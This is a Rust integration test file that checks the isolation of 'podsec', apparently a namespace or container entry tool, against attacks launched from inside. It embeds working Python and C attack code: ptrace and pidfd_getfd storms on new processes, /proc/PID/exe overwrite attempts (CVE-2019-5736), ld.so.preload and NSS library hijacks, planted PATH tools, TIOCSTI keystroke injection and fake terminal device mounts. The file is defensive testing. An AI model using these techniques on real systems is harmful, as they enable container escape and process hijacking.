//! What those inside do to whoever comes in: the cluster user owns every file, mount and process there, and podsec passes
//! through with them watching.

use super::*;
use podsec_policy::audit::hex;
use podsec_sys::process::wait_readable;
use std::os::fd::AsFd as _;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;
use std::time::Duration;

pub const TESTS: &[Test] = &[
    ("attacks::t23_ptrace_storm", ptrace_storm),
    ("attacks::t24_exe_overwrite", exe_overwrite),
    ("attacks::t25_evil_libraries", evil_libraries),
    ("attacks::t26_evil_tools", evil_tools),
    ("attacks::t33_typing_into_the_caller", typing_into_the_caller),
    ("attacks::t34_fake_terminals", fake_terminals),
];

/// The namespaces after what was done to their mounts: brought up anew when this is dropped.
struct Spoiled;

impl Spoiled {
    /// Runs a script inside, as its root.
    fn by(script: &str) -> Self {
        let spoiled = Self;
        host::run(&mut people::inside("/bin/sh", &["-euc", script]));
        spoiled
    }
}

impl Drop for Spoiled {
    fn drop(&mut self) {
        host::stop_namespace();
        host::start_namespace();
    }
}

/// At every new process, until its standard input ends: memory, descriptors, environment, root, directory, ptrace(2) and
/// pidfd_getfd(2). What works on a program after its exec is no secret of ours and shows that the attack works; what
/// works on podsec's own process is a breach.
const STORM: &str = r"
import ctypes, os, select, sys
libc = ctypes.CDLL(None, use_errno=True)
SEIZE, INTERRUPT, DETACH, PIDFD_OPEN, PIDFD_GETFD = 0x4206, 0x4207, 17, 434, 438
tried = wins = 0
breaches = set()

def exe(pid):
    try: return os.readlink(f'/proc/{pid}/exe')
    except OSError: return ''

def is_ours(pid):
    # Read-only and gated like all the rest: to be told the name of podsec's program is a breach already.
    return 'podsec' in exe(pid)

def won(what, pid, sure=False):
    global wins
    wins += 1
    if sure or is_ours(pid):
        breaches.add(what)

def attack(pid):
    global tried
    tried += 1
    if is_ours(pid): breaches.add('exe')
    for name, flags in (('mem', os.O_RDWR), ('maps', os.O_RDONLY), ('environ', os.O_RDONLY), ('root', os.O_RDONLY), ('cwd', os.O_RDONLY)):
        try: fd = os.open(f'/proc/{pid}/{name}', flags)
        except OSError: continue
        try: won(name, pid, name == 'maps' and b'podsec' in os.read(fd, 65536))
        except OSError: pass
        os.close(fd)
    try:
        for n in os.listdir(f'/proc/{pid}/fd'):
            link = os.readlink(f'/proc/{pid}/fd/{n}')
            won('fd', pid, int(n) > 2 and link.startswith(('socket:', 'anon_inode:')))
    except OSError: pass
    pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
    if pidfd >= 0:
        for n in range(0, 12):
            fd = libc.syscall(PIDFD_GETFD, pidfd, n, 0)
            if fd < 0: continue
            won('pidfd_getfd', pid, n > 2 and os.readlink(f'/proc/self/fd/{fd}').startswith(('socket:', 'anon_inode:')))
            os.close(fd)
        os.close(pidfd)
    if libc.ptrace(SEIZE, pid, 0, 0) == 0:
        try:
            libc.ptrace(INTERRUPT, pid, 0, 0)
            os.waitpid(pid, 0x40000000) # __WALL; it stands still now, so the name of its program is sure
            won('ptrace', pid)
            libc.ptrace(DETACH, pid, 0, 0)
        except OSError: pass

def present(): return {int(name) for name in os.listdir('/proc') if name.isdigit()}
def is_mine(pid):
    try: text = open(f'/proc/{pid}/status').read()
    except OSError: return False
    return text.split('Uid:')[1].split()[1] == str(os.getuid())

done = {pid for pid in present() if is_mine(pid)}
print('ready', flush=True)
while not select.select([0], [], [], 0)[0]:
    now = present()
    done &= now
    # A worker is root's for a while, and one's own from the moment on that it has dropped root.
    for pid in now - done:
        if not is_mine(pid): continue
        # Until it is somebody's program or gone: the way there is what we want to see.
        for _ in range(400):
            attack(pid)
            if not is_mine(pid) or exe(pid) and not is_ours(pid): break
        done.add(pid)
print(tried, wins, ' '.join(sorted(breaches)) or 'none')
";

fn ptrace_storm(oracle: &mut Oracle) {
    // From inside, where the new process appears at its fork, and with the same uid from outside, where the worker does.
    let mut attackers = [people::inside("/usr/bin/python3", &["-c", STORM]), {
        let mut python = people::command(CLUSTER, "/usr/bin/python3");
        python.args(["-c", STORM]);
        python
    }]
    .map(|mut command| {
        let command = command.stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut child = command.spawn().expect("python");
        let mut told = std::io::BufReader::new(child.stdout.take().expect("a pipe"));
        let mut line = String::new();
        std::io::BufRead::read_line(&mut told, &mut line).expect("read");
        assert_eq!(line, "ready\n");
        (child, told)
    });
    let entries = count(10_000, 400);
    let mut ended = 0;
    for entry in 0..entries {
        // Some of them long enough to be caught after their exec.
        let argv = if entry % 4 == 0 { ["sleep", "0.02"] } else { ["true", ""] };
        // A tracer from inside may hold a program for a moment, and nothing else.
        ended += usize::from(entering(ALICE, &argv).status().expect("podsecctl").success());
    }
    assert_eq!(ended, entries);
    for (child, told) in &mut attackers {
        drop(child.stdin.take());
        let mut line = String::new();
        std::io::BufRead::read_line(told, &mut line).expect("read");
        println!("tried, worked after exec, breaches: {line}");
        let words: Vec<_> = line.split_whitespace().collect();
        assert!(words[0].parse::<usize>().unwrap() > entries, "the storm was none: {line}");
        assert!(
            words[1].parse::<usize>().unwrap() > 0,
            "the attack works on nobody, so it shows nothing: {line}"
        );
        assert_eq!(words[2..], ["none"]);
        child.wait().expect("wait");
    }
    expect_entries(oracle, entries);
}

/// Where podsec's programs are.
fn programs() -> Vec<(String, String, i64)> {
    let directory = |path| std::fs::read_dir(path).expect("a directory").flatten();
    let ours = directory("/usr/libexec/podsec")
        .chain(directory("/usr/bin").filter(|entry| entry.file_name().to_string_lossy().contains("podsec")));
    let look = |path: std::path::PathBuf| {
        let digest = hex(&Sha256::digest(std::fs::read(&path).expect("read")));
        (path.display().to_string(), digest, path.metadata().expect("stat").mtime())
    };
    let mut found: Vec<_> = ours.map(|entry| look(entry.path())).collect();
    found.sort();
    assert_eq!(found.len(), 6, "{found:?}");
    found
}

/// Opens every process's program for writing, until its standard input ends (CVE-2019-5736).
const OVERWRITE: &str = r"
import os, select
tried = breaches = 0
print('ready', flush=True)
while not select.select([0], [], [], 0)[0]:
    for name in os.listdir('/proc'):
        if not name.isdigit(): continue
        try: target = os.readlink(f'/proc/{name}/exe')
        except OSError: target = ''
        try:
            tried += 1
            fd = os.open(f'/proc/{name}/exe', os.O_WRONLY)
            breaches += 'podsec' in os.readlink(f'/proc/self/fd/{fd}')
            os.write(fd, b'#!/bin/false\n') if 'podsec' in target else None
        except OSError: pass
print(tried, breaches)
";

fn exe_overwrite(_: &mut Oracle) {
    let before = programs();
    // A "program" that has whoever runs it run himself again, with the libraries of in here.
    let _spoiled = Spoiled::by(
        "mount -t tmpfs tools /usr/local/bin
         printf '#!/proc/self/exe\\n' >/usr/local/bin/again; chmod 755 /usr/local/bin/again",
    );
    let mut attacker = people::inside("/usr/bin/python3", &["-c", OVERWRITE]);
    let mut attacker = attacker.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("python");
    for _ in 0..count(5_000, 100) {
        let output = entering(ALICE, &["again"]).output().expect("podsecctl");
        // The worker as a program of its own has nothing to do.
        assert_eq!((output.status.code(), &output.stdout[..]), (Some(2), &b""[..]), "{output:?}");
        entering(ALICE, &["sleep", "0.002"]).status().expect("podsecctl");
    }
    drop(attacker.stdin.take());
    let told = attacker.wait_with_output().expect("wait").stdout;
    let told = String::from_utf8_lossy(&told).into_owned();
    println!("tried, breaches: {told}");
    assert!(told.trim_end().ends_with(" 0") && !told.contains("\n0 "), "{told}");
    assert_eq!(programs(), before);
}

/// A library that tells of every process that loads it: a file of its own, whose owner the host sees, with the process's
/// program, user namespace and descriptors beyond 2.
const CANARY: &str = r#"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void sing(void) {
    char path[64], exe[256] = "", ns[64] = "";
    snprintf(path, sizeof path, "/tmp/canary/%s.%d", NAME, getpid());
    readlink("/proc/self/exe", exe, sizeof exe - 1);
    readlink("/proc/self/ns/user", ns, sizeof ns - 1);
    int fds = 0;
    for (int fd = 3; fd < 256; fd++) fds += fcntl(fd, F_GETFD) != -1 && !(fcntl(fd, F_GETFD) & FD_CLOEXEC);
    FILE *file = fopen(path, "we");
    if (file) { fprintf(file, "%s %s %d\n", exe, ns, fds); fclose(file); }
}
"#;

/// CVE-2019-14271, CVE-2025-32463: whoever looks a name up inside loads what those inside put there.
fn evil_libraries(_: &mut Oracle) {
    let directory = Path::new("/tmp/canary");
    std::fs::create_dir(directory).expect("mkdir");
    std::os::unix::fs::chown(directory, Some(0), Some(0)).expect("chown");
    host::run(Command::new("/bin/chmod").args(["1777", "/tmp/canary"]));
    std::fs::write("/tmp/canary.c", CANARY).expect("write");
    for name in ["preload", "nss"] {
        let define = format!("-DNAME=\"{name}\"");
        let library = format!("/tmp/canary-{name}.so");
        host::run(Command::new("/usr/bin/cc").args([
            "-shared",
            "-fPIC",
            &define,
            "-o",
            &library,
            "/tmp/canary.c",
        ]));
    }
    let module = host::run(
        Command::new("/bin/sh")
            .args(["-c", "ls /lib/*/libnss_compat.so.2 /lib64/libnss_compat.so.2 2>/dev/null | head -n 1"]),
    );
    let spoiled = Spoiled::by(&format!(
        "rm -f /etc/nsswitch.conf /etc/ld.so.preload
         printf 'passwd: compat\\ngroup: compat\\ninitgroups: compat\\n' >/etc/nsswitch.conf
         mount --bind /tmp/canary-nss.so {}
         echo /tmp/canary-preload.so >/etc/ld.so.preload",
        module.trim()
    ));
    people::enter(ALICE, &["id"]);
    Terminal::podsecctl(ALICE, &["enter", "-t", "--", "ls", "-l", "/"]).ends();
    fed(people::command(CLUSTER, "/usr/bin/nsenter_u7s").arg("bash"), b"id root; getent passwd mallory\n");
    people::ctl(ALICE, &["port", "list"]);
    people::ctl(ALICE, &["namespace", "show"]);
    let _ = people::podsecctl(ALICE, &["enter", "--", "no-such-program"]);

    let namespace = std::fs::read_link(format!("/proc/{}/ns/user", host::child_pid())).expect("readlink");
    let mut names = Vec::new();
    for entry in std::fs::read_dir(directory).expect("canaries").flatten() {
        let (text, name) = (std::fs::read_to_string(entry.path()).expect("read"), entry.file_name());
        let [exe, its_namespace, descriptors] = text.split_whitespace().collect::<Vec<_>>()[..] else {
            panic!("{text}")
        };
        assert_eq!(entry.metadata().expect("stat").uid(), cluster_uid(), "{text}");
        assert!(!exe.contains("podsec"), "podsec itself loaded it: {text}");
        assert_eq!((its_namespace, descriptors), (namespace.to_str().unwrap(), "0"), "{text}");
        names.push(name.to_string_lossy().split('.').next().unwrap().to_owned());
    }
    // The caller's own programs did load both, or this has shown nothing.
    assert!(["preload", "nss"].iter().all(|name| names.iter().any(|found| found == name)), "{names:?}");
    drop(spoiled);
    host::run(Command::new("/bin/sh").args(["-c", "rm -r /tmp/canary /tmp/canary.c /tmp/canary-*.so"]));
}

/// CVE-2022-1227: nothing of podsec looks a tool up where those inside put theirs.
fn evil_tools(_: &mut Oracle) {
    let tools =
        "sh bash nsenter kubectl crictl env true id su sudo login useradd newuidmap podsecctl podsecd-worker";
    let _spoiled = Spoiled::by(&format!(
        "for directory in /usr/local/sbin /usr/local/bin; do
             mount -t tmpfs tools $directory
             for tool in {tools}; do
                 printf '#!/bin/sh\\necho $0 $@ >>/tmp/evil-tools\\n' >$directory/$tool
                 chmod 755 $directory/$tool
             done
         done"
    ));
    let ran = || std::fs::read_to_string("/tmp/evil-tools").unwrap_or_default();
    people::enter(ALICE, &["/usr/bin/id"]);
    people::enter(ALICE, &["uname"]);
    people::ctl(ALICE, &["namespace", "show"]);
    people::ctl(ALICE, &["port", "list"]);
    Terminal::podsecctl(ALICE, &["enter", "-t", "--", "/bin/true"]).ends();
    assert_eq!(ran(), "", "nobody asked for these");
    people::enter(ALICE, &["kubectl", "get", "pods"]);
    assert_eq!(
        ran(),
        "/usr/local/sbin/kubectl get pods\n",
        "asked for by name: that is what is in the PATH inside"
    );
    std::fs::remove_file("/tmp/evil-tools").expect("remove");
}

/// Types a line into every terminal that it can open, and selects and pastes on every console: prints where it worked.
const TYPING: &str = r"
import fcntl, glob, os, sys, termios
TIOCLINUX = 0x541C
places = [(n, n) for n in (0, 1, 2)]
for path in ['/dev/tty', '/dev/console', '/dev/tty0'] + glob.glob('/dev/pts/[0-9]*') + glob.glob('/proc/[0-9]*/fd/[0-9]*'):
    try:
        if path.startswith('/proc') and not os.readlink(path).startswith('/dev/'): continue
        places.append((path, os.open(path, os.O_RDWR | os.O_NOCTTY)))
    except OSError: pass
for name, fd in places:
    worked = []
    for what, request, argument in (('TIOCSTI', termios.TIOCSTI, b'!'), ('TIOCSCTTY', termios.TIOCSCTTY, 1), ('TIOCLINUX', TIOCLINUX, b'\x03')):
        try:
            fcntl.ioctl(fd, request, argument)
            worked.append(what)
        except OSError: pass
    try: real = os.ttyname(fd)
    except OSError: real = ''
    print('place', name, real, *worked, flush=True)
print('ende', flush=True)
";

/// What a session types into terminals stays on its own: the caller's next command is the caller's (CVE-2017-5226 and
/// others). The hardest caller is the cluster user himself, whose terminal the session may even open.
fn typing_into_the_caller(_: &mut Oracle) {
    let legacy = std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").unwrap_or("1".into());
    for user in [ALICE, CLUSTER, ROOT] {
        for kind in ["-t", "-T"] {
            let mut terminal =
                Terminal::podsecctl(user, &["enter", kind, "--", "/usr/bin/python3", "-c", TYPING]);
            let callers =
                podsec_sys::nix::unistd::ttyname(&terminal.follower).expect("ttyname").display().to_string();
            let told = terminal.sees("ende");
            terminal.ends();
            println!("{user} {kind} (legacy_tiocsti {}): {told}", legacy.trim());
            let places: Vec<Vec<&str>> = told
                .lines()
                .filter(|line| line.contains("place "))
                .map(|line| line.split_whitespace().collect())
                .collect();
            let hit = |place: &&Vec<&str>| place.iter().any(|word| word.starts_with("TIOC"));
            assert!(!places.iter().filter(hit).any(|place| place.contains(&callers.as_str())), "{told}");
            if kind == "-t" && legacy.trim() == "1" {
                assert!(places.iter().any(|place| place.contains(&"TIOCSTI")), "its own at least: {told}");
            }
            // Raw, a single byte can be read; nothing was typed by anybody.
            let _raw = podsec_sys::terminal::RawMode::enter(&terminal.follower).expect("raw mode");
            let waits = wait_readable(&[terminal.follower.as_fd()], Some(Duration::from_millis(20)));
            assert!(!waits.expect("poll"), "{user} {kind}: something was typed into the caller's terminal");
        }
    }
}

/// CVE-2025-52565: devices that are none, at the places where a terminal is made or found.
fn fake_terminals(oracle: &mut Oracle) {
    let works = || {
        let mut terminal = Terminal::podsecctl(
            ALICE,
            &[
                "enter",
                "-t",
                "--",
                "sh",
                "-c",
                "test -t 0 && test -t 2 && stty size && read -r word && echo got $word",
            ],
        );
        terminal.sees("24 80\r\n");
        terminal.types("hello\r");
        terminal.sees("got hello\r\n");
        assert_eq!(terminal.ends().0, 0);
    };
    works();
    let spoiled = Spoiled::by(
        "mkdir /tmp/fake; cd /tmp/fake; echo file >file; mkfifo fifo; mkdir pts; touch pts/0 pts/1 pts/2 pts/ptmx
         mount --bind pts /dev/pts
         mount --bind fifo /dev/ptmx
         mount --bind file /dev/tty
         [ ! -e /dev/console ] || mount --bind fifo /dev/console",
    );
    works();
    assert_eq!(people::enter(ALICE, &["echo", "without"]), "without\n");
    drop(spoiled);
    std::fs::remove_dir_all("/tmp/fake").expect("remove");
    works();
    expect_entries(oracle, 4);
}
